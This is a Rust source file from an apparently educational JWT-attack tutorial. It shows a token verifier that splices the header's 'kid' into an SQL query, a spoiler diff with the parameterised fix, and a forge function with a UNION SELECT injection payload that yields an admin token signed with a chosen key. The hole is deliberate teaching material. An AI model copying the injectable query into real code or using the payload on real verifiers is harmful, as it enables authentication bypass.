//! # A name that is a query
//!
//! The secrets are in a database, and `kid` in the header says which one a token
//! was signed with. It is pasted into the query. A `'` ends the text there, and
//! what follows is no name any more: it is SQL.
//!
//! **Who:** it is in the labs and tools for this as well. No library puts the
//! query together, programs do.
//!
//! **The way in:** let your `kid` match no row, and add one of your own with
//! `UNION SELECT`. What is in it is the secret, and you know it.
//!
//! **Closed by** your own list of keys: look `kid` up among the names that you
//! gave out. Our crate asks no database. It ignores `kid`, and check 9 asks for
//! the secret that you have passed in.

use crate::tutorial::*;
use crate::world;

pub fn verify(token: &str, _secret: &str, now: u64) -> Verdict {
    let [header, payload, _] = three_parts(token)?;
    let header = read_json(header)?;
    if header["alg"] != "HS256" {
        return refuse("the algorithm must be HS256");
    }
    let kid = header["kid"].as_str().unwrap_or("2023-07");
    let sql = format!("SELECT secret FROM keys WHERE kid = '{kid}'");
    let secret = world::query(&sql, &[kid])?;
    check_signature(token, &secret)?;

    let claims = read_json(payload)?;
    check_time(&claims, now)?;
    Ok(claims)
}

// ---- Spoilers: the line that closes the hole, and the way in ----
// -     let sql = format!("SELECT secret FROM keys WHERE kid = '{kid}'");
// +     let sql = "SELECT secret FROM keys WHERE kid = ?".to_owned();

use crate::level::{Attacker, Base, Hole, Setting, USUAL};
use jwt_by_hand::Header;
use serde_json::json;

pub const HOLE: Hole = Hole {
    setting: |base| {
        let all = "SELECT secret FROM keys WHERE kid = '2023-07'";
        let secret = world::query(all, &[]).unwrap();
        let base = Base { secret: &secret, ..base };
        let header = Header::new().with_key_id("2023-07");
        Setting::with(base, base.signed(&header, &base.claims()))
    },
    ..USUAL
};

pub fn forge(attacker: &Attacker) -> String {
    let kid = "nobody' UNION SELECT 'a key of my own' --";
    let header = encode(&json!({ "alg": "HS256", "kid": kid }));
    signed(&header, &as_admin(attacker.token), "a key of my own")
}
